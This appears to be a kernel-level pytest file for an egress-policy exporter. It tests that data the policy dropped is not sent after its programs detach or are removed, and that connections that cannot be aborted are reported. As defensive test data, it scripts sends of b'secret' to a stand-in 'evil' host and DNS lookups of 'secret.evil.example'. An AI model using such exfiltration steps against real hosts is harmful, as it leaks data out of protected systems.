"""What becomes of connections that a policy kept packets back of, once nothing drops these any more."""

from __future__ import annotations

import os
import socket
import sys
import time
from contextlib import contextmanager
from typing import TYPE_CHECKING

import pytest

from exporter.cli.stop import command as stop
from exporter.kernel import dropped_connections
from exporter.kernel.dropped_connections import NotAborted
from exporter.kernel.pins import remove
from exporter.policy.compile import Compiled, compile_policy
from exporter.policy.model import Mode
from tests.kernel.agents import Agent, agent
from tests.kernel.dns_exchange import NAME, PACED, framed, policy, questions_held_back, taken
from tests.kernel.held_job import compiled, question
from tests.kernel.kernel_side import KernelSide, kernel_side
from tests.kernel.lab import NETWORKS, PORT, V4, V6, Lab, Network, Watch
from tests.kernel.routes import by_way_of_evil
from tests.kernel.servers import family_of
from tests.unit.policy.files import rules

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.kernel

USER = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
AGAIN_S = 3
"""TCP sends again what it isn't rid of, some times within that."""
MORE_THAN_FITS = 64 << 20
RESET = "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))"
"""Has a close discard what is left to send: else it would be sent beside other tests."""


@pytest.fixture
def kernel() -> Iterator[KernelSide]:
    with kernel_side() as side:
        yield side


def audited() -> Compiled:
    return compile_policy(rules(allow=f"any://{V4.peer}\nany://[{V6.peer}]"))


def under(network: Network) -> tuple[str, ...]:
    """Over IPv6 any user can set a route."""
    return USER if network is V6 else ()


def keep_back(kernel: KernelSide, job: Agent, network: Network, *closing: str) -> None:
    """Have a connection's data dropped, since it would go another way than the connection did."""
    opened = (f"s = socket.create_connection(('{network.peer}', {PORT}))", "s.sendall(b'hello')")
    assert job.do(*opened, "assert s.recv(5)", *by_way_of_evil("s", network, network.peer)) == "ok"
    kernel.change_mode(audited(), Mode.ENFORCE)
    assert job.do("s.sendall(b'secret')", *closing) == "ok"


def detach(kernel: KernelSide) -> None:
    """Detach the programs, and wait for what TCP may send then."""
    kernel.tracer.detach()
    assert kernel.tracer.left == NotAborted()
    time.sleep(AGAIN_S)


def nothing_came_after_hello(watch: Watch, network: Network) -> None:
    assert watch.arrivals.packets_to(network.evil) == 0
    assert watch.arrivals.stream_bytes.total() == len(b"hello")


@NETWORKS
@pytest.mark.parametrize("closing", [(), ("s.close()",)], ids=["open", "closed"])
def test_what_a_route_kept_back_is_not_sent_once_nothing_drops_it(
    lab: Lab, kernel: KernelSide, network: Network, closing: tuple[str, ...]
) -> None:
    with lab.watch() as watch, agent(kernel, lab, audited(), under=under(network)) as job:
        keep_back(kernel, job, network, *closing)
        detach(kernel)
    nothing_came_after_hello(watch, network)


@NETWORKS
def test_nor_is_what_was_dropped_at_its_owners_end(lab: Lab, kernel: KernelSide, network: Network) -> None:
    """It waited until then, and is nobody's any more."""
    with lab.watch() as watch:
        with agent(kernel, lab, audited(), under=under(network)) as job:
            opened = (f"s = socket.create_connection(('{network.peer}', {PORT}))", "s.sendall(b'hello')")
            assert job.do(*opened, "assert s.recv(5)", "s.setsockopt(6, socket.TCP_CORK, 1)") == "ok"
            assert job.do(*by_way_of_evil("s", network, network.peer)) == "ok"
            kernel.change_mode(audited(), Mode.ENFORCE)
            assert job.do("s.sendall(b'secret')") == "ok"
        detach(kernel)
    nothing_came_after_hello(watch, network)


@NETWORKS
def test_nor_is_it_when_somebody_else_removes_the_programs(
    lab: Lab, kernel: KernelSide, network: Network
) -> None:
    """As `ci-egress stop` does, also what a killed exporter left."""
    with lab.watch() as watch, agent(kernel, lab, audited(), under=under(network)) as job:
        keep_back(kernel, job, network, "s.close()")
        assert remove(kernel.tracer.directory)
        time.sleep(AGAIN_S)
    assert watch.arrivals.packets_to(network.evil) == 0


@NETWORKS
def test_nor_is_what_was_dropped_of_a_connection_that_has_no_room_for_a_mark(
    lab: Lab, kernel: KernelSide, network: Network
) -> None:
    """A process can fill the memory that its socket may take."""
    with lab.watch() as watch, agent(kernel, lab, audited(), under=under(network)) as job:
        opened = (f"s = socket.create_connection(('{network.peer}', {PORT}))", "s.sendall(b'hello')")
        assert job.do(*opened, "assert s.recv(5)", *by_way_of_evil("s", network, network.peer)) == "ok"
        kernel.change_mode(audited(), Mode.ENFORCE)
        with lab.without_option_memory():
            assert job.do("s.sendall(b'secret')") == "ok"
        detach(kernel)
    nothing_came_after_hello(watch, network)


@contextmanager
def asked_at(lab: Lab, network: Network) -> Iterator[socket.socket]:
    """A resolver that waits for a connection."""
    with lab.peer.call(socket.socket, family_of(network.evil)).result() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((network.evil, 53))
        listener.listen()
        yield listener


def begin_to_ask(job: Agent, network: Network) -> None:
    opened = f"s = socket.create_connection(('{network.evil}', 53))"
    assert job.do(opened, "s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)") == "ok"


def ask(job: Agent, server: socket.socket, piece: bytes) -> None:
    assert job.do(f"s.sendall({piece!r})") == "ok"
    assert taken(server, len(piece)) == piece


@NETWORKS
@pytest.mark.parametrize("closing", [(), ("s.close()",)], ids=["open", "closed"])
@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_nor_is_a_refused_question_that_tcp_has_not_sent_yet(
    lab: Lab, kernel: KernelSide, network: Network, mode: str, closing: tuple[str, ...]
) -> None:
    """No packet of it was dropped. `mode` is the one in which it connects."""
    before, last = questions_held_back()
    with asked_at(lab, network) as listener, agent(kernel, lab, refusing_lookups(network, mode)) as job:
        begin_to_ask(job, network)
        with listener.accept()[0] as server:
            for piece in before:
                ask(job, server, piece)
            assert job.do(f"s.setsockopt{PACED}") == "ok"
            ask(job, server, last)
            kernel.change_mode(refusing_lookups(network), Mode.ENFORCE)
            assert job.do(f"s.sendall({framed(question('secret.evil.example'))!r})", *closing) == "ok"
            detach(kernel)
            assert is_reset(server)


@NETWORKS
def test_nor_is_a_refused_question_of_a_connection_that_has_no_more_room_for_a_mark(
    lab: Lab, kernel: KernelSide, network: Network
) -> None:
    with asked_at(lab, network) as listener, agent(kernel, lab, refusing_lookups(network)) as job:
        begin_to_ask(job, network)
        with lab.without_option_memory(), listener.accept()[0] as server:
            ask(job, server, framed(question(NAME)))
            assert job.do(f"s.sendall({framed(question('secret.evil.example'))!r})") == "ok"
            detach(kernel)
            assert is_reset(server)


def test_a_connection_to_a_resolver_goes_on_where_no_policy_was_enforced(
    lab: Lab, kernel: KernelSide
) -> None:
    with asked_at(lab, V4) as listener, agent(kernel, lab, refusing_lookups(V4, "audit")) as job:
        begin_to_ask(job, V4)
        with listener.accept()[0] as server:
            ask(job, server, framed(question("secret.evil.example")))
            detach(kernel)
            ask(job, server, framed(question("secret.evil.example")))


def refusing_lookups(network: Network, mode: str = "enforce") -> Compiled:
    return compiled(f"dns: deny\n{policy(network, f'{NAME}:{PORT}', mode=mode)}")


def is_reset(server: socket.socket) -> bool:
    """Whether the connection is over, and nothing came by it."""
    server.setblocking(False)
    try:
        return not server.recv(1)
    except ConnectionResetError:
        return True
    except BlockingIOError:
        return False


def test_dropped_packets_of_which_the_connection_is_not_known_are_counted(
    lab: Lab, kernel: KernelSide
) -> None:
    """There is neither room for a mark, nor for the connection's cookie."""
    cookies = kernel.tracer.maps["without_mark"]
    cookies.update_all(
        (number.to_bytes(8, sys.byteorder), bytes(4)) for number in range(1 << 40, (1 << 40) + 16384)
    )
    with agent(kernel, lab, audited()) as job:
        with lab.without_option_memory():
            keep_back(kernel, job, V4)
        kernel.tracer.detach()
        assert kernel.tracer.left.packets > 0
        assert "there was no room to note the connection" in next(kernel.tracer.left.lines())
        assert job.do(RESET, "s.close()") == "ok", "else it would be sent beside other tests"


def test_the_connections_of_others_go_on(lab: Lab, kernel: KernelSide) -> None:
    """Also those that nobody has any more, to the same peer and port."""
    with lab.peer.call(socket.create_server, (V4.peer, 53)).result() as server:
        stranger = lab.build.call(socket.create_connection, (V4.peer, 53)).result()
        with server.accept()[0] as accepted:
            stranger.setblocking(False)
            sent = fill(stranger)
            stranger.close()
            with agent(kernel, lab, audited()) as job:
                keep_back(kernel, job, V4, "s.close()")
                kernel.tracer.detach()
            assert sum(map(len, iter(lambda: accepted.recv(1 << 16), b""))) == sent


def fill(sending: socket.socket) -> int:
    """Send until there is no room; how many bytes that takes."""
    sent = 0
    while sent < MORE_THAN_FITS:
        try:
            sent += sending.send(bytes(1 << 16))
        except BlockingIOError:
            return sent
    raise AssertionError("it never ends")


def test_what_cannot_be_aborted_is_counted(
    lab: Lab, kernel: KernelSide, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As by a kernel without CONFIG_INET_DIAG_DESTROY."""
    with agent(kernel, lab, audited()) as job:
        keep_back(kernel, job, V4)
        with monkeypatch.context() as patched:
            patched.setattr(dropped_connections, "_DESTROY", 22)
            kernel.tracer.detach()
        assert kernel.tracer.left == NotAborted(connections=1)
        assert job.do(RESET, "s.close()") == "ok", "else it would be sent beside other tests"


def test_who_stops_it_is_told_of_what_cannot_be_aborted(
    lab: Lab, kernel: KernelSide, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with agent(kernel, lab, audited()) as job:
        keep_back(kernel, job, V4)
        with monkeypatch.context() as patched:
            patched.setattr(dropped_connections, "_DESTROY", 22)
            assert stop.main([kernel.tracer.name], standalone_mode=False) == 0
        assert job.do(RESET, "s.close()") == "ok", "else it would be sent beside other tests"
    told = "1 connection couldn't be aborted: from now on it may send what the policy dropped"
    assert capsys.readouterr().err.splitlines() == [f"ci-egress: warning: {told}"]


def test_a_network_that_cannot_be_looked_into_is_counted(
    lab: Lab, kernel: KernelSide, monkeypatch: pytest.MonkeyPatch
) -> None:
    def nowhere() -> Iterator[int]:
        with open(os.devnull) as no_namespace:  # noqa: PTH123 - its descriptor is what it is for
            yield no_namespace.fileno()

    monkeypatch.setattr(dropped_connections, "everywhere", nowhere)
    kernel.tracer.detach()
    assert kernel.tracer.left == NotAborted(), "nothing was dropped"
    with kernel_side() as other, agent(other, lab, audited()) as job:
        keep_back(other, job, V4)
        other.tracer.detach()
        assert other.tracer.left == NotAborted(networks=1)
        assert job.do(RESET, "s.close()") == "ok", "else it would be sent beside other tests"
